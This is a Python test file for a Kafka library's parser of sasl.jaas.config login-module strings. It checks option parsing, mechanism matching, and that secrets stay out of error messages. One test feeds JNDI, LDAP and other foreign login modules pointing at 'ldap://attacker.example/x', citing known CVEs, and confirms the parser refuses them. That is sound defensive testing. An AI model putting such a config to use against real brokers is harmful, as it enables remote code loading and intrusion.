"""sasl.jaas.config: Java's syntax, and no login module but Kafka's own."""

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ottla.config import ConfigError
from ottla.security.jaas import OAUTH_MODULE, PLAIN_MODULE, SCRAM_MODULE, OtherMechanism, read_login_module


def test_options_are_read() -> None:
    text = f"""{PLAIN_MODULE} required
        username="admin"
        password="a \\"quoted\\" = ; word"
        user_admin='single'
        bare=value ;"""
    module = read_login_module("s", "PLAIN", text)
    assert module.options == {
        "username": "admin",
        "password": 'a "quoted" = ; word',
        "user_admin": "single",
        "bare": "value",
    }
    assert read_login_module("s", "SCRAM-SHA-512", f"{SCRAM_MODULE} required;").options == {}
    assert read_login_module("s", "OAUTHBEARER", f"{OAUTH_MODULE} required ;").options == {}


@pytest.mark.parametrize(
    "module",
    [
        "com.sun.security.auth.module.JndiLoginModule",
        "com.sun.security.auth.module.LdapLoginModule",
        "com.sun.security.auth.module.Krb5LoginModule",
        "os.system",
        "plain.PlainLoginModule",
    ],
)
def test_other_login_modules_are_refused(module: str) -> None:
    # CVE-2023-25194, CVE-2025-27818, CVE-2025-27819.
    with pytest.raises(ConfigError, match="is refused"):
        read_login_module("s", "PLAIN", f'{module} required user.provider.url="ldap://attacker.example/x";')


def test_a_second_module_is_refused() -> None:
    text = f"{PLAIN_MODULE} required a=b; com.sun.security.auth.module.JndiLoginModule required c=d;"
    with pytest.raises(ConfigError):
        read_login_module("s", "PLAIN", text)


def test_the_module_must_be_that_of_the_mechanism() -> None:
    with pytest.raises(OtherMechanism):
        read_login_module("s", "PLAIN", f"{SCRAM_MODULE} required;")


@pytest.mark.parametrize(
    "text",
    [
        "",
        ";",
        PLAIN_MODULE,
        f"{PLAIN_MODULE} required",
        f"{PLAIN_MODULE} perhaps;",
        f"{PLAIN_MODULE} required password;",
        f'{PLAIN_MODULE} required password="hunter2',
        f"{PLAIN_MODULE} required =hunter2;",
        f"{PLAIN_MODULE} required password=hunter2 hunter3;",
    ],
)
def test_what_cannot_be_read_is_refused_and_not_shown(text: str) -> None:
    with pytest.raises(ConfigError) as refusal:
        read_login_module("listener.name.x.plain.sasl.jaas.config", "PLAIN", text)
    message = str(refusal.value)
    assert message.startswith("listener.name.x.plain.sasl.jaas.config: ")
    assert "\n" not in message
    assert "hunter" not in message


@given(st.text(max_size=100))
def test_any_text_is_read_or_refused(text: str) -> None:
    for each in (text, f"{PLAIN_MODULE} required {text};"):
        with contextlib.suppress(ConfigError):
            read_login_module("s", "PLAIN", each)
